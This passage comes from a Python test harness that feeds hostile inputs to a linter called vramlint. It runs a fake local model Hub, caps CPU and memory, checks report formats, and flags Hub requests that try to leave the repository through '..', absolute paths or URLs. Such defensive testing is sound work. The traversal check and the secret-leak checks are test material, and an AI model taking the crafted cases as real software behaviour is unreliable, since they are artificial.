        def _send(self, status: int, body: bytes, headers: dict[str, str] | None = None) -> None:
            self.send_response(status)
            for k, v in (headers or {}).items():
                self.send_header(k, v)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            try:
                self.wfile.write(body)
            except OSError:
                pass

        def do_GET(self) -> None:
            state.setdefault("paths", []).append(self.path)
            path = urllib.parse.unquote(urllib.parse.urlsplit(self.path).path)
            parts = path.lstrip("/").split("/", 4)  # org / model / resolve / revision / file
            if len(parts) < 5 or parts[2] != "resolve":
                self._send(404, b"{}", {"X-Error-Code": "RepoNotFound"})
                return
            model, filename = parts[0] + "/" + parts[1], parts[4]
            if filename == "config.json":
                self._send(200, json.dumps(_CONFIG).encode(), {"Content-Type": "application/json"})
                return
            with state["lock"]:
                files = state["files"].get(model)
                if files is None:
                    files = state["files"][model] = _files_for(kind, model, state["secret"]) or {}
            data = files.get(filename)
            if data is None:
                self._send(404, b"{}", {"X-Error-Code": "EntryNotFound"})
                return
            rng = self.headers.get("Range", "")
            if rng.startswith("bytes="):
                a, _, b = rng[6:].partition("-")
                lo, hi = int(a), min(int(b or len(data) - 1), len(data) - 1)
                part = data[lo:hi + 1]
                self.send_response(206)
                self.send_header("Content-Range", f"bytes {lo}-{hi}/{len(data)}")
                self.send_header("Content-Length", str(len(part)))
                self.end_headers()
                try:
                    self.wfile.write(part)
                except OSError:
                    pass
            else:
                self._send(200, data)

    return Handler


class _Hub:
    def __init__(self, kind: str) -> None:
        from http.server import ThreadingHTTPServer

        class Server(ThreadingHTTPServer):
            daemon_threads = True

            def handle_error(self, request: Any, client_address: Any) -> None:
                pass

        self.state: dict[str, Any] = {"lock": threading.Lock(), "files": {}, "secret": h.SECRET}
        self.server = Server(("127.0.0.1", 0), _hub_handler(kind, self.state))
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


# ---------------------------------------------------------------------- limits and the checks added here


def _limited_run_timed(cmd: list[str], folder: str, env: dict[str, str], timeout: float
                       ) -> tuple[str, str, int | None, float]:
    """hostile_inputs.run_timed with the child's CPU time and address space capped (a runaway case is stopped by
    the kernel, not only by the wall-clock timeout)."""
    cpu = max(1, int(timeout))

    def limits() -> None:
        resource.setrlimit(resource.RLIMIT_CPU, (cpu, cpu + 5))
        resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE_CAP, ADDRESS_SPACE_CAP))

    start = time.perf_counter()
    proc = subprocess.Popen(cmd, cwd=folder, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, errors="backslashreplace", preexec_fn=limits)
    try:
        out, err = proc.communicate(timeout=timeout)
        code: int | None = proc.returncode
    except subprocess.TimeoutExpired:
        proc.kill()
        out, err = proc.communicate()
        code = None
    return out, err, code, time.perf_counter() - start


OWN = ("__max_rule__", "__strict_json__", "__hub_paths__", "__hub_models__")


def _lone_surrogates(obj: Any) -> bool:
    if isinstance(obj, str):
        return any(0xD800 <= ord(c) <= 0xDFFF for c in obj)
    if isinstance(obj, dict):
        return any(_lone_surrogates(k) or _lone_surrogates(v) for k, v in obj.items())
    if isinstance(obj, list):
        return any(_lone_surrogates(v) for v in obj)
    return False


def run_case(name: str, base: str, timeout: float) -> dict[str, Any]:
    files = sixteenth_cases()[name]
    h.run_timed = _limited_run_timed  # (hostile_fresh.run_case runs vramlint through it)
    kind = files.get("__hub__")
    hub = _Hub(kind) if kind else None
    if hub is not None:
        # (corrected after the first run: the answers are made before vramlint asks, not on its first request for
        # a file other than config.json, which took 8 s for the 19 MB of headers of the distinct-tensors case on
        # the loaded machine, past vramlint's 4 s for an answer to begin: the Hub was then unreachable for the run)
        for model in files.get("__hub_models__", ()):
            hub.state["files"][model] = _files_for(kind, model, h.SECRET) or {}
    e._Hub = lambda _kind: hub  # hostile_fifteenth.run_check_case starts "its" Hub: this round's
    inner = {k: v for k, v in files.items() if k not in OWN}
    result = e.run_check_case(name, inner, base, timeout)  # (which closes the Hub)
    problems = result["problems"]
    scratch = os.path.join(base, f"_scratch-{name}")
    findings: list[dict] = []
    try:
        with open(os.path.join(scratch, "report.json"), encoding="utf-8", errors="surrogateescape") as fh:
            findings = json.load(fh).get("findings") or []
    except (OSError, ValueError, AttributeError):
        pass
    for rule, most in (files.get("__max_rule__") or {}).items():
        n = sum(1 for x in findings if x.get("rule") == rule)
        if n > most:
            problems.append(f"{n:,} {rule} findings, more than {most} (one per root cause)")
    if files.get("__strict_json__"):
        for key in ("json", "sarif", "gitlab"):
            try:
                with open(os.path.join(scratch, f"report.{key}"), "rb") as fh:
                    raw = fh.read()
                data = json.loads(raw.decode("utf-8"))  # strict UTF-8: a raw surrogate does not decode
            except (OSError, ValueError) as exc:
                problems.append(f"{key} is not strict UTF-8 JSON: {str(exc)[:80]}")
                continue
            if _lone_surrogates(data):
                problems.append(f"{key} holds a lone surrogate (escaped), which strict JSON readers refuse")
    if hub is not None and files.get("__hub_paths__"):
        for p in hub.state.get("paths", []):
            path = urllib.parse.unquote(urllib.parse.urlsplit(p).path)
            parts = path.lstrip("/").split("/", 4)
            if len(parts) < 5 or ".." in parts[4].split("/") or parts[4].startswith("/") or "://" in parts[4]:
                problems.append(f"a Hub request out of the repository: {p[:100]!r}")
                break
    return result


CHILD = ("import json, sys; sys.path.insert(0, sys.argv[1]); import hostile_sixteenth as e; "
         "print(json.dumps(e.run_case(sys.argv[2], sys.argv[3], float(sys.argv[4]))))")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--case", action="append", help="run only these cases")
    parser.add_argument("--keep", metavar="DIR", help="write the cases into DIR and keep them")
    parser.add_argument("--timeout", type=float, default=60.0, help="kill a case after this many seconds")
    parser.add_argument("--cpu-time", action="store_true",
                        help="judge the 5 s limit on the case's CPU time, not wall time (on a loaded machine)")
    args = parser.parse_args()
    names = args.case or list(sixteenth_cases())
    base = os.path.abspath(args.keep or tempfile.mkdtemp(prefix="vramlint-sixteenth-"))
    os.makedirs(base, exist_ok=True)
    f._plant_outside(base)
    ok = 0
    try:
        for name in names:
            res = subprocess.run([sys.executable, "-c", CHILD, HERE, name, base, str(args.timeout)],
                                 capture_output=True, text=True, timeout=args.timeout * 3 + 120)
            if res.returncode != 0:
                r = {"seconds": 0.0, "cpu": 0.0, "peak": 0.0, "code": None, "first": "-",
                     "problems": [f"benchmark harness failed: {res.stderr.strip().splitlines()[-1:]}"]}
            else:
                r = json.loads(res.stdout.strip().splitlines()[-1])
            judged = r["cpu"] if args.cpu_time else r["seconds"]
            if judged >= f.LIMIT_SECONDS:
                r["problems"].insert(0, f"over {f.LIMIT_SECONDS:g} s")
            if r["peak"] >= f.LIMIT_MB:
                r["problems"].insert(0, f"over {f.LIMIT_MB:g} MB")
            passed = not r["problems"]
            ok += passed
            print(f"{'PASS' if passed else 'FAIL'} {name:44s} {r['seconds']:6.2f} s {r['cpu']:6.2f} CPU-s "
                  f"{r['peak']:7.1f} MB  exit {r['code']}  {r['first']}", flush=True)
            for p in r["problems"]:
                print(f"{'':6s}- {p}", flush=True)
    finally:
        if not args.keep:
            shutil.rmtree(base, ignore_errors=True)
    print(f"{ok}/{len(names)} sixteenth cases PASS: under {f.LIMIT_SECONDS:g} s "
          f"({'CPU' if args.cpu_time else 'wall'} time) and {f.LIMIT_MB:g} MB, exit 0 or 1, no leak, nothing read "
          "outside the tree or written outside the cache, the expected finding, one finding per root cause")
    return 0 if ok == len(names) else 1


if __name__ == "__main__":
    sys.exit(main())
